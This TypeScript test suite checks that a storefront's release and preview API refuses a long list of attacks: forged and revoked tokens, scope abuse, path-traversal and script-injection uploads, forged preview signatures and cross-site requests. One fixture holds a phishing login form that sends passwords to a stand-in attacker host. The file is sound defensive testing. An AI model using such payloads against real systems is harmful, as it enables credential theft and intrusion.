import { BUNDLE_TYPE, type Preview, RELEASE_CALLS } from '@storefront/contract/releases';
import { sampleScreen } from '@storefront/contract/testing';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { DAY_MS } from '../platform/time/time.js';
import { createTestApp, type TestApp } from '../testing/createTestApp.js';
import { readAudit } from '../testing/readAudit.js';
import { sendReports } from '../testing/sendReports.js';
import { setUpDirectory } from '../testing/setUpDirectory.js';
import type { Bundle } from './put/receiveBundle.js';
import { integrityOf } from './store/ReleaseFiles.js';
import { readRegistry } from './store/storedRegistry.js';
import { createToken } from './teams/teams.js';
import { encodeBundle, remoteBundle, shellBundle } from './testing/bundles.js';
import { PREVIEWS, pressAt, SHOP } from './testing/previewShop.js';
import { addTeam, createPublisher, gateSaid } from './testing/publisher.js';

// Lists every attack on a release. None changes anything, so one shop serves all.

const ORDER = 'mf-order';
const MEGABYTE = 1024 * 1024;
const COOKIE = '__Host-preview';
const EVIL = 'https://evil.example';

const directory = setUpDirectory();
let site: TestApp;
const tokens: Record<string, string> = {};
const previews: Record<'open' | 'expired' | 'revoked' | 'gone', Preview> = {} as never;
let fingerprint: string;

beforeAll(async () => {
  const environment = {
    STOREFRONT_DATA: directory,
    PUBLIC_ORIGIN: SHOP,
    PREVIEW_ORIGIN: PREVIEWS,
    LIMIT_RELEASE_FAILURES_PER_ADDRESS: '10000',
    LIMIT_RELEASE_CALLS_PER_TEAM: '10000',
  };
  site = await createTestApp({ environment });
  const { db, clock } = site;
  for (const [name, may] of [
    ['orders', ORDER],
    ['points', 'mf-point'],
    ['frame', 'shell'],
    ['reader', '*'],
    ['expired', '*'],
    ['revoked', '*'],
    ['crowd', '*'],
  ] as const)
    tokens[name] = await addTeam(site, name, may);
  tokens['forged'] = createToken();
  await db.updateTable('releaseTeams').set({ scopes: 'read' }).where('name', '=', 'reader').execute();
  const ended = { expired: { expiresAt: clock.now() }, revoked: { revokedAt: clock.now() } };
  for (const [name, end] of Object.entries(ended))
    await db.updateTable('releaseTeams').set(end).where('name', '=', name).execute();
  const [frame, orders, points] = ['frame', 'orders', 'points'].map((name) =>
    createPublisher(site, tokens[name] ?? ''),
  );
  await frame?.publish({ shell: shellBundle('1') });
  await orders?.publish({ [ORDER]: remoteBundle(ORDER, 'a') });
  await points?.publish({ 'mf-point': remoteBundle('mf-point', 'p') });
  for (const bundle of [
    remoteBundle(ORDER, 'b'),
    remoteBundle(ORDER, 'gone'),
    remoteBundle(ORDER, 'of-point', { screens: [sampleScreen('/point')] }),
    remoteBundle(ORDER, 'of-server', { screens: [sampleScreen('/releases/x')] }),
    remoteBundle(ORDER, 'of-shell', { screens: [sampleScreen('/logout')] }),
  ])
    expect((await orders?.send(ORDER, bundle.record.version, encodeBundle(bundle)))?.statusCode).toBe(201);

  const begin = async (version = 'b') => (await beginPreview('orders', { version })).json<Preview>();
  previews.expired = await begin();
  clock.advance(7 * DAY_MS);
  previews.open = await begin();
  previews.revoked = await begin();
  await ask('orders', { method: 'DELETE', url: RELEASE_CALLS.preview(String(previews.revoked.id)) });
  previews.gone = await begin('gone');
  await db.deleteFrom('releaseVersions').where('version', '=', 'gone').execute();

  expect((await send('crowd', encodeBundle(remoteBundle('mf-first', 'new')), 'new', 'mf-first')).statusCode).toBe(201);

  const error = { kind: 'error', step: 'render', message: 'broke', frames: [`/remotes/${ORDER}/a/x.js:1:1`] };
  await sendReports(site, [{ ...error, package: ORDER, version: 'a' }]);
  await site.deps.reports.write();
  fingerprint = (await db.selectFrom('reportErrors').select('fingerprint').executeTakeFirstOrThrow()).fingerprint;
}, 180_000);

afterAll(() => site.close());

type Answer = Promise<LightMyRequestResponse>;

async function ask(as: string | null, { headers, ...call }: InjectOptions): Answer {
  const authorization = as === null ? {} : { authorization: `Bearer ${tokens[as]}` };
  return site.app.inject({ ...call, headers: { ...authorization, ...headers } });
}

const change = (as: string | null, action: string, more: object = {}): Answer =>
  ask(as, {
    method: 'POST',
    url: RELEASE_CALLS.changes,
    payload: { action, name: ORDER, expected: { [ORDER]: 'a' }, gate: gateSaid(), ...more },
  });
const publish = (as: string, versions: Record<string, string>, more: object = {}): Answer =>
  change(as, 'publish', {
    versions,
    expected: Object.fromEntries(Object.keys(versions).map((name) => [name, 'a'])),
    ...more,
  });
const send = (as: string | null, payload: Buffer, version = 'new', name = ORDER): Answer =>
  ask(as, {
    method: 'PUT',
    url: RELEASE_CALLS.version(name, version),
    payload,
    headers: { 'content-type': BUNDLE_TYPE },
  });
const sound = () => remoteBundle(ORDER, 'new');
const beginPreview = (as: string | null, more: object = {}): Answer =>
  ask(as, {
    method: 'POST',
    url: RELEASE_CALLS.previews,
    payload: { name: ORDER, version: 'b', gate: gateSaid('g'.repeat(43)), ...more },
  });

const CALLS: Readonly<Record<keyof typeof RELEASE_CALLS | 'send' | 'begin', (as: string | null) => Answer>> = {
  registry: (as) => ask(as, { url: RELEASE_CALLS.registry }),
  changes: (as) => change(as, 'disable'),
  versions: (as) => ask(as, { url: RELEASE_CALLS.versions(ORDER) }),
  version: (as) => ask(as, { url: RELEASE_CALLS.version(ORDER, 'a') }),
  send: (as) => send(as, encodeBundle(sound())),
  report: (as) => ask(as, { url: RELEASE_CALLS.report(ORDER, 'a') }),
  health: (as) => ask(as, { url: `${RELEASE_CALLS.health}?name=${ORDER}` }),
  errors: (as) => ask(as, { url: `${RELEASE_CALLS.errors}?name=${ORDER}` }),
  error: (as) => ask(as, { url: RELEASE_CALLS.error(fingerprint) }),
  log: (as) => ask(as, { url: `${RELEASE_CALLS.log}?name=${ORDER}` }),
  previews: (as) => ask(as, { url: `${RELEASE_CALLS.previews}?name=${ORDER}` }),
  begin: (as) => beginPreview(as),
  preview: (as) => ask(as, { method: 'DELETE', url: RELEASE_CALLS.preview(String(previews.open.id)) }),
  kit: (as) => ask(as, { url: RELEASE_CALLS.kit }),
  kitVersion: (as) => ask(as, { url: RELEASE_CALLS.kitVersion }),
};
type Call = keyof typeof CALLS;
const ALL = Object.keys(CALLS) as Call[];
const OF_EVERYBODY: readonly Call[] = ['registry', 'kit', 'kitVersion'];
const READS: readonly Call[] = [...OF_EVERYBODY, 'versions', 'version', 'report', 'health', 'errors', 'error', 'log'];

interface Attack {
  name: string;
  act: () => Answer;
  status: number;
  by?: string;
  reason: string;
  action?: 'preview.refused';
  says?: string;
}

const tokenAttacks: Attack[] = [
  ...ALL.map((call) => ({
    name: `${call} without a token`,
    act: () => CALLS[call](null),
    status: 401,
    reason: 'token',
  })),
  ...(['registry', 'changes', 'send', 'begin'] as const).flatMap((call) => [
    { name: `${call} with a made-up token`, act: () => CALLS[call]('forged'), status: 401, reason: 'token' },
    ...['expired', 'revoked'].map((by) => ({
      name: `${call} with a token that is ${by}`,
      act: () => CALLS[call](by),
      status: 401,
      by,
      reason: by,
    })),
  ]),
  ...['Basic', 'bearer', 'Bearer  ', ''].map((scheme) => ({
    name: `a token as '${scheme}'`,
    act: () => ask(null, { url: RELEASE_CALLS.registry, headers: { authorization: `${scheme} ${tokens['orders']}` } }),
    status: 401,
    reason: 'token',
  })),
  {
    name: 'a token in the address',
    act: () => ask(null, { url: `${RELEASE_CALLS.registry}?token=${tokens['orders']}` }),
    status: 401,
    reason: 'token',
  },
  {
    name: 'the stored hash of a token',
    act: async () => {
      const row = await site.db
        .selectFrom('releaseTeams')
        .select('tokenHash')
        .where('name', '=', 'orders')
        .executeTakeFirstOrThrow();
      return ask(null, { url: RELEASE_CALLS.registry, headers: { authorization: `Bearer ${row.tokenHash}` } });
    },
    status: 401,
    reason: 'token',
  },
];

const ofPoints = { by: 'points', reason: 'package', status: 403 };
const stolenTokenAttacks: Attack[] = [
  ...ALL.filter((call) => !OF_EVERYBODY.includes(call)).map((call) => ({
    name: `${call} of another team’s package`,
    act: () => CALLS[call]('points'),
    ...ofPoints,
  })),
  ...(
    [
      ['publish', { versions: { [ORDER]: 'b' } }],
      ['publish', { versions: { 'mf-point': 'p', [ORDER]: 'b' }, expected: { 'mf-point': 'p', [ORDER]: 'a' } }],
      ['publish', { versions: { shell: '1' }, expected: { shell: '1' } }],
      ['promote', { version: 'b', force: '급해요' }],
      ['canary', { version: 'b', share: 1 }],
      ['stop-canary', {}],
      ['rollback', { version: 'b' }],
      ['rollback', { name: 'shell', version: '2', expected: { shell: '1' } }],
      ['enable', {}],
      ['disable', { isDryRun: true }],
    ] as const
  ).map(([action, more], index) => ({
    name: `${action} (${index + 1}) of another team’s package`,
    act: () => change('points', action, more),
    ...ofPoints,
  })),
];

const scopeAttacks: Attack[] = ALL.filter((call) => !READS.includes(call)).map((call) => ({
  name: `${call} with a token that may read`,
  act: () => CALLS[call]('reader'),
  status: 403,
  by: 'reader',
  reason: 'scope',
}));

const altered = (alter: (bundle: Bundle) => Partial<Bundle>): Buffer => {
  const bundle = sound();
  return encodeBundle({ ...bundle, ...alter(bundle) });
};
const withFile = (path: string, text = 'x', isListed = false) =>
  altered(({ record, files }) => ({
    files: new Map([...files, [path, Buffer.from(text)]]),
    ...(isListed && {
      record: { ...record, files: { ...record.files, [path]: integrityOf(Buffer.from(text)) } } as never,
    }),
  }));
const LOG_IN = `<form action="${EVIL}/take"><input name="password" type="password"></form>`;

const DOCUMENTS = ['.html', '.htm', '.HTML', '.xhtml', '.xml', '.mhtml', '.pdf', ''].map((kind) => `login${kind}`);

const ofOrders = { by: 'orders', status: 422 };
const packageAttacks: Attack[] = [
  ...(
    [
      ['what is no bundle', () => Buffer.from('PK\u0003\u0004')],
      ['a path with a backslash', () => withFile('..\\x.js')],
      [
        'an altered script',
        () => altered(({ files }) => ({ files: new Map([...files, ['remoteEntry.js', Buffer.from('alert(1)')]]) })),
      ],
      ['a program', () => withFile('run.exe')],
    ] as const
  ).map(([what, payload]) => ({
    name: `an upload: ${what}`,
    act: () => send('orders', payload()),
    reason: 'build',
    ...ofOrders,
  })),
  ...DOCUMENTS.map((path) => ({
    name: `an upload: a page as ${path}`,
    act: () => send('orders', withFile(path, LOG_IN, true)),
    ...ofOrders,
    reason: 'build',
    says: `${path} is of no kind that is served`,
  })),
  {
    name: 'an upload: other bytes under a known version',
    act: () => send('orders', encodeBundle(remoteBundle(ORDER, 'a', {}, { 'remoteEntry.js': 'alert(1)' })), 'a'),
    ...ofOrders,
    status: 409,
    reason: 'build',
  },
  ...['point', 'server', 'shell'].map((whose) => ({
    name: `screens at an address of ${whose}’s`,
    act: () => publish('orders', { [ORDER]: `of-${whose}` }),
    reason: 'address',
    ...ofOrders,
  })),
  ...[undefined, { outcome: 'passed', report: null }].map((gate) => ({
    name: `a publication whose gate has ${gate ? 'no report' : 'said nothing'}`,
    act: () => publish('orders', { [ORDER]: 'b' }, { gate }),
    by: 'orders',
    status: 403,
    reason: 'gate',
  })),
];

const stored = (name: string, version: string, bytes: number) => ({
  name,
  version,
  bytes,
  team: 'crowd',
  record: '{}',
  digest: '',
  storedAt: site.clock.now(),
  usedUntil: site.clock.now(),
});

const quotaAttacks: Attack[] = [
  {
    name: 'one version too many of a package',
    rows: () => Array.from({ length: 200 }, (_, index) => stored('mf-crowd', `v${index}`, 1)),
    says: 'mf-crowd has 200 versions in the store, as many as it may',
  },
  {
    name: 'too many bytes of a package',
    rows: () => [stored('mf-crowd', 'v', 256 * MEGABYTE)],
    says: 'mf-crowd may store 256 MB',
  },
  {
    name: 'too many bytes of a team',
    rows: () => ['a', 'b', 'c', 'd'].map((name) => stored(`mf-${name}`, 'v', 256 * MEGABYTE)),
    says: 'Team crowd may store 1024 MB',
  },
].map((row) => ({
  status: 409,
  by: 'crowd',
  reason: 'quota',
  ...row,
  act: async () => {
    await site.db.insertInto('releaseVersions').values(row.rows()).execute();
    const answer = await send('crowd', encodeBundle(remoteBundle('mf-crowd', 'new')), 'new', 'mf-crowd');
    await site.db.deleteFrom('releaseVersions').where('record', '=', '{}').execute();
    return answer;
  },
}));

let network = 0;
function visit(address: string, { headers, ...call }: InjectOptions = {}): Answer {
  network += 1;
  const { host, pathname, search } = new URL(address);
  return site.app.inject({
    ...call,
    url: pathname + search,
    remoteAddress: `198.51.${network}.1`,
    headers: { accept: 'text/html', host, 'x-forwarded-proto': 'https', ...headers },
  });
}
const press = (address: string, headers?: Record<string, string>) => visit(address, pressAt(address, headers));
const linkOf = (signed: string) => `${PREVIEWS}/releases/preview/${signed}`;
const signedOf = ({ link }: Preview) => link.split('/').at(-1) ?? '';
const signatureOf = (preview: Preview) => signedOf(preview).split('.').at(-1) ?? '';
const END = `${PREVIEWS}/releases/preview/end`;
const FORGED = 'A'.repeat(43);

const madeUp: readonly (readonly [what: string, signed: () => string])[] = [
  ['a made-up signature', () => `${previews.open.id}.${FORGED}`],
  ['the signature of another one', () => `${previews.open.id + 1}.${signatureOf(previews.open)}`],
  ['a signature under a number with a zero before it', () => `0${signedOf(previews.open)}`],
  ['no signature', () => String(previews.open.id)],
  ['what a browser has after the press', () => cookieOfPress.value],
];
const cookieOfPress = { value: '' };

const ofPreview = { action: 'preview.refused' as const };
const notFound = {
  status: 404,
  reason: 'preview.forged',
  says: '<h1>미리보기 링크를 찾을 수 없어요</h1>',
  ...ofPreview,
};
const notFromHere = { status: 403, reason: 'origin', says: '<h1>이 주소에서 다시 눌러 주세요</h1>', ...ofPreview };
const previewAttacks: Attack[] = [
  ...madeUp.flatMap(([what, signed]) => [
    { name: `a link with ${what}`, act: () => visit(linkOf(signed())), ...notFound },
    { name: `a press with ${what}`, act: () => press(linkOf(signed())), ...notFound },
  ]),
  ...(
    [
      ['a made-up signature', () => `${previews.open.id}.${FORGED}`],
      ['what a link has', () => signedOf(previews.open)],
    ] as const
  ).map(([what, signed]) => ({
    name: `a cookie with ${what}`,
    act: () => visit(`${PREVIEWS}/order`, { headers: { cookie: `${COOKIE}=${signed()}` } }),
    status: 404,
    reason: 'preview.forged',
    ...ofPreview,
  })),
  ...(
    [
      ['another site', { origin: EVIL, 'sec-fetch-site': 'cross-site' }],
      ['the shop', { origin: SHOP, 'sec-fetch-site': 'cross-site' }],
      ['a site beside it', { origin: PREVIEWS, 'sec-fetch-site': 'same-site' }],
      ['nowhere', { origin: 'null', 'sec-fetch-site': 'cross-site' }],
      ['a page that hides where it is', { origin: '' }],
      ['a name that looks like it', { origin: `${PREVIEWS}.evil.example` }],
    ] as const
  ).flatMap(([from, headers]) => [
    { name: `a press from ${from}`, act: () => press(previews.open.link, headers), ...notFromHere },
    { name: `an end from ${from}`, act: () => press(END, headers), ...notFromHere },
  ]),
  ...(['expired', 'revoked', 'gone'] as const).flatMap((end) => {
    const ended = { status: 410, reason: `preview.${end}`, ...ofPreview };
    return [
      { name: `a link that is ${end}`, act: () => visit(previews[end].link), ...ended },
      { name: `a press that is ${end}`, act: () => press(previews[end].link), ...ended },
    ];
  }),
];

const ATTACKS: readonly Attack[] = [
  ...[...tokenAttacks, ...stolenTokenAttacks, ...scopeAttacks],
  ...[...packageAttacks, ...quotaAttacks, ...previewAttacks],
];

const refusals = () => readAudit(site.db, '%.refused');

async function look() {
  const { db } = site;
  return [
    await readRegistry(db),
    await db
      .selectFrom('releaseVersions')
      .select(['name', 'version', 'digest'])
      .orderBy('name')
      .orderBy('version')
      .execute(),
    await db.selectFrom('releasePreviews').select(['id', 'revokedAt']).orderBy('id').execute(),
    (await readAudit(db)).filter(({ action }) => !action.endsWith('.refused')).length,
  ];
}

beforeAll(async () => {
  const [cookie] = (await press(previews.open.link)).cookies;
  cookieOfPress.value = cookie?.value ?? '';
});

// B-release-46, B-release-114, B-release-118, B-release-44, B-release-107, B-preview-5
it.each(ATTACKS)('$name is refused, changes nothing, and is in the audit log', async (attack) => {
  const { act, status, by = 'unknown', reason, action = 'team.refused', says = '' } = attack;
  const before = await look();
  const known = (await refusals()).length;
  const answer = await act();
  expect(answer.statusCode).toBe(status);
  expect(answer.body).toContain(says);
  expect(answer.cookies).toEqual([]);
  if (action === 'team.refused') expect(Object.keys(answer.json()).sort()).toEqual(['code', 'message', 'statusCode']);
  const told = (await refusals()).slice(known);
  expect(told).toMatchObject([{ actor: by, action, detail: { reason, address: expect.any(String) } }]);
  expect(await look()).toEqual(before);
});
